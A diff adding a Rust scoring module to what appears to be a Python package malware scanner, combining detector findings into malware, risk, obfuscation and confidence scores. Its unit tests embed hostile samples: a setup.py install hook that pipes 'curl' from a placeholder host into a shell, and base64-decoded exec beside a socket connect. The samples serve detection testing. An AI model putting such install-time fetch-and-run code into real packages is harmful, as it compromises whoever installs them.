@@ -1,0 +1,297 @@
+//! Combines findings into the four scores of a report, in a way a person can follow.
+//!
+//! # The model
+//!
+//! **malware** is a noisy-OR over *contributions*: `1 − Π(1 − wᵢ)`.
+//! - Each detector contributes once per file, with the severity of its strongest finding.
+//!   Detectors set severities knowing the execution context (install, import, run time,
+//!   tests/docs), so `os.system` in a setup.py weighs far more than in a function of a library.
+//!   Repeating the same behaviour is not more evidence of intent, so repeats add nothing.
+//! - Combinations add contributions of their own (ids `combo:*`, see [`COMBINATIONS`]): a custom
+//!   install command that also runs a payload, a download followed by execution, credential
+//!   access next to a network send, an exfiltration endpoint next to a network call, obfuscation
+//!   around a dangerous call.
+//!
+//! **securityRisk** is `1 − (1 − malware) · Π(1 − capᵣ)` over the detectors present, where
+//! `capᵣ` ([`capability_weight`]) says how much power the capability gives code that runs,
+//! malicious or not.
+//!
+//! **obfuscated** is a noisy-OR over the obfuscation evidence (computed names, encoded payloads,
+//! packers, off-screen code), plus 0.15 per decoded layer.
+//!
+//! **confidence** starts at 0.9 and drops when the parser had to recover from syntax errors,
+//! when a file was too large to parse, and when the malware score sits in the uncertain middle.
+//!
+//! Every contribution is returned as a [`Contribution`], so reports can say which evidence moved
+//! each score.
+
+use wheelhound_analysis::{ExecContext, FileAnalysis, Finding};
+
+/// Package verdict thresholds on the malware score.
+pub const MALICIOUS_THRESHOLD: f64 = 0.7;
+/// See [`MALICIOUS_THRESHOLD`].
+pub const SUSPICIOUS_THRESHOLD: f64 = 0.4;
+
+/// One piece of evidence's effect on one score.
+#[derive(Clone, Debug)]
+pub struct Contribution {
+    /// `malware`, `securityRisk` or `obfuscated`.
+    pub score: &'static str,
+    /// Detector id or `combo:*`.
+    pub rule: String,
+    /// `path:line`.
+    pub location: String,
+    /// Weight contributed.
+    pub weight: f64,
+    /// Why.
+    pub reason: String,
+}
+
+/// The scores of one file.
+#[derive(Clone, Debug, Default)]
+pub struct FileScores {
+    /// Likelihood the file is malicious.
+    pub malware: f64,
+    /// Risk the file's capabilities pose.
+    pub security_risk: f64,
+    /// Degree of obfuscation.
+    pub obfuscated: f64,
+    /// Confidence in the scores.
+    pub confidence: f64,
+    /// What moved the scores, strongest first.
+    pub contributions: Vec<Contribution>,
+}
+
+/// A combination of evidence that weighs more than its parts.
+pub struct Combination {
+    /// `combo:*` id.
+    pub id: &'static str,
+    /// What it means.
+    pub description: &'static str,
+    /// Its weight.
+    pub weight: f64,
+}
+
+/// The combinations scored, in the order they are checked.
+pub const COMBINATIONS: &[Combination] = &[
+    Combination { id: "combo:hook-with-payload", description: "a custom install command and a dangerous call that runs during installation", weight: 0.35 },
+    Combination { id: "combo:download-and-run", description: "a download and a process or exec call in code that runs at install or import time", weight: 0.4 },
+    Combination { id: "combo:steal-and-send", description: "credential or stealer-target access and a network send in the same file", weight: 0.4 },
+    Combination { id: "combo:endpoint-contacted", description: "an exfiltration or staging endpoint and a network call in the same file", weight: 0.3 },
+    Combination { id: "combo:obfuscated-sink", description: "obfuscation around a dangerous call", weight: 0.3 },
+];
+
+/// How much power a capability gives running code (for securityRisk).
+pub fn capability_weight(rule: &str) -> f64 {
+    match rule {
+        "WH200" => 0.3,
+        "WH110" => 0.25,
+        "WH120" | "WH140" | "WH160" | "WH101" | "WH102" => 0.2,
+        "WH130" | "WH150" | "WH190" => 0.15,
+        "WH100" | "WH170" | "WH180" => 0.1,
+        _ => 0.05,
+    }
+}
+
+fn noisy_or(weights: impl IntoIterator<Item = f64>) -> f64 {
+    1.0 - weights.into_iter().fold(1.0, |keep, w| keep * (1.0 - w.clamp(0.0, 1.0)))
+}
+
+fn strongest<'f>(findings: &'f [Finding], filter: impl Fn(&Finding) -> bool) -> Option<&'f Finding> {
+    findings
+        .iter()
+        .filter(|f| filter(f))
+        .max_by(|a, b| a.severity.total_cmp(&b.severity))
+}
+
+fn early(f: &Finding) -> bool {
+    matches!(f.context, ExecContext::Install | ExecContext::Import)
+}
+
+fn combination_evidence<'f>(id: &str, findings: &'f [Finding]) -> Option<(&'f Finding, &'f Finding)> {
+    let sink = |f: &Finding| matches!(f.rule, "WH110" | "WH120" | "WH130" | "WH150");
+    match id {
+        "combo:hook-with-payload" => {
+            let hook = strongest(findings, |f| f.has_tag("install-command"))?;
+            let payload = strongest(findings, |f| sink(f) && f.context == ExecContext::Install && f.severity >= 0.25)?;
+            Some((hook, payload))
+        }
+        "combo:download-and-run" => {
+            let fetch = strongest(findings, |f| f.has_tag("net-fetch") && early(f))?;
+            let run = strongest(findings, |f| {
+                // Any process start counts: running a just-downloaded file needs no dynamic command.
+                early(f) && (f.rule == "WH110" && !f.has_tag("exec-file") && !f.has_tag("exec-constant")
+                    || f.rule == "WH120")
+            })?;
+            Some((fetch, run))
+        }
+        "combo:steal-and-send" => {
+            let steal = strongest(findings, |f| f.rule == "WH140" && f.severity >= 0.2)?;
+            let send = strongest(findings, |f| f.rule == "WH130" || f.has_tag("endpoint") && f.severity >= 0.4)?;
+            Some((steal, send))
+        }
+        "combo:endpoint-contacted" => {
+            let endpoint = strongest(findings, |f| f.rule == "WH160" && f.severity >= 0.3)?;
+            let call = strongest(findings, |f| f.rule == "WH130")?;
+            Some((endpoint, call))
+        }
+        "combo:obfuscated-sink" => {
+            let hidden = strongest(findings, |f| matches!(f.rule, "WH180" | "WH190" | "WH170") && f.severity >= 0.4)?;
+            let danger = strongest(findings, |f| sink(f) && f.severity >= 0.25)?;
+            Some((hidden, danger))
+        }
+        _ => None,
+    }
+}
+
+/// Scores one analysed file.
+pub fn score_file(analysis: &FileAnalysis) -> FileScores {
+    let findings = &analysis.findings;
+    let mut contributions = Vec::new();
+
+    let mut rules: Vec<&str> = findings.iter().map(|f| f.rule).collect();
+    rules.sort_unstable();
+    rules.dedup();
+    for rule in &rules {
+        if let Some(best) = strongest(findings, |f| f.rule == *rule) {
+            if best.severity > 0.0 {
+                contributions.push(Contribution {
+                    score: "malware",
+                    rule: (*rule).to_owned(),
+                    location: best.location(),
+                    weight: best.severity,
+                    reason: format!("{} {}: {}", best.name, best.context.phrase(), best.message),
+                });
+            }
+        }
+    }
+    for combination in COMBINATIONS {
+        if let Some((first, second)) = combination_evidence(combination.id, findings) {
+            contributions.push(Contribution {
+                score: "malware",
+                rule: combination.id.to_owned(),
+                location: second.location(),
+                weight: combination.weight,
+                reason: format!("{} ({} and {})", combination.description, first.location(), second.location()),
+            });
+        }
+    }
+    let malware = noisy_or(contributions.iter().map(|c| c.weight));
+
+    let mut risk_moves = Vec::new();
+    for rule in &rules {
+        if let Some(best) = strongest(findings, |f| f.rule == *rule) {
+            risk_moves.push(Contribution {
+                score: "securityRisk",
+                rule: (*rule).to_owned(),
+                location: best.location(),
+                weight: capability_weight(rule),
+                reason: format!("capability: {}", best.name),
+            });
+        }
+    }
+    let security_risk = 1.0 - (1.0 - malware) * (1.0 - noisy_or(risk_moves.iter().map(|c| c.weight)));
+
+    let mut obfuscation_moves: Vec<Contribution> = findings
+        .iter()
+        .filter(|f| f.has_tag("obfuscation") || f.has_tag("hidden-code") || f.has_tag("exec-decoded"))
+        .map(|f| Contribution {
+            score: "obfuscated",
+            rule: f.rule.to_owned(),
+            location: f.location(),
+            weight: f.severity.max(0.2),
+            reason: f.message.clone(),
+        })
+        .collect();
+    for layer in &analysis.layers {
+        obfuscation_moves.push(Contribution {
+            score: "obfuscated",
+            rule: "layer".to_owned(),
+            location: format!("{}:{}", analysis.path, layer.line),
+            weight: 0.15,
+            reason: format!("decoded layer {} ({})", layer.name, layer.how),
+        });
+    }
+    let obfuscated = noisy_or(obfuscation_moves.iter().map(|c| c.weight));
+
+    let mut confidence: f64 = 0.9;
+    if analysis.syntax_errors > 0 {
+        confidence -= 0.15;
+    }
+    if analysis.errors.iter().any(|e| e.contains("parse limit")) {
+        confidence -= 0.3;
+    }
+    if (0.3..0.7).contains(&malware) {
+        confidence -= 0.15;
+    }
+
+    contributions.extend(risk_moves);
+    contributions.extend(obfuscation_moves);
+    contributions.sort_by(|a, b| b.weight.total_cmp(&a.weight));
+
+    FileScores {
+        malware: round(malware),
+        security_risk: round(security_risk),
+        obfuscated: round(obfuscated),
+        confidence: round(confidence.clamp(0.3, 0.95)),
+        contributions,
+    }
+}
+
+/// Rounds to two decimals so reports do not pretend to more precision than they have.
+pub fn round(x: f64) -> f64 {
+    (x.clamp(0.0, 1.0) * 100.0).round() / 100.0
+}
+
+/// The verdict word for a malware score.
+pub fn level(malware: f64) -> &'static str {
+    if malware >= MALICIOUS_THRESHOLD {
+        "malicious"
+    } else if malware >= SUSPICIOUS_THRESHOLD {
+        "suspicious"
+    } else {
+        "benign"
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+    use super::*;
+    use wheelhound_analysis::{analyze_python, AnalysisOptions};
+
+    fn score(path: &str, code: &str) -> FileScores {
+        score_file(&analyze_python(path, code.as_bytes(), &AnalysisOptions::default()))
+    }
+
+    #[test]
+    fn dropper_setup_is_malicious() {
+        let code = "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('curl http://x.invalid/a.sh | sh')\n        install.run(self)\nsetup(name='x', cmdclass={'install': I})\n";
+        let s = score("x-1/setup.py", code);
+        assert!(s.malware >= 0.9, "{s:?}");
+        assert!(s.contributions.iter().any(|c| c.rule == "combo:hook-with-payload"));
+    }
+
+    #[test]
+    fn ordinary_library_code_is_benign() {
+        let code = "import subprocess, requests, os\n\ndef version():\n    return subprocess.check_output(['git', 'describe'])\n\ndef fetch(url):\n    return requests.get(url, timeout=os.environ.get('TIMEOUT'))\n";
+        let s = score("x-1/x/util.py", code);
+        assert!(s.malware < 0.15, "{s:?}");
+        assert!(s.security_risk > s.malware);
+    }
+
+    #[test]
+    fn typical_setup_py_is_benign() {
+        let code = "import os, re\nfrom setuptools import setup, find_packages\nfrom setuptools.command.build_ext import build_ext\nhere = os.path.abspath(os.path.dirname(__file__))\nexec(open(os.path.join(here, 'x', 'version.py')).read())\nclass B(build_ext):\n    def run(self):\n        build_ext.run(self)\nsetup(name='x', packages=find_packages(), cmdclass={'build_ext': B})\n";
+        let s = score("x-1/setup.py", code);
+        assert!(s.malware < 0.15, "{s:?}");
+    }
+
+    #[test]
+    fn scores_stay_in_range() {
+        let s = score("x/setup.py", "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\nimport socket;socket.socket().connect(('1.2.3.4', 1))\n");
+        for v in [s.malware, s.security_risk, s.obfuscated, s.confidence] {
+            assert!((0.0..=1.0).contains(&v));
+        }
+    }
+}
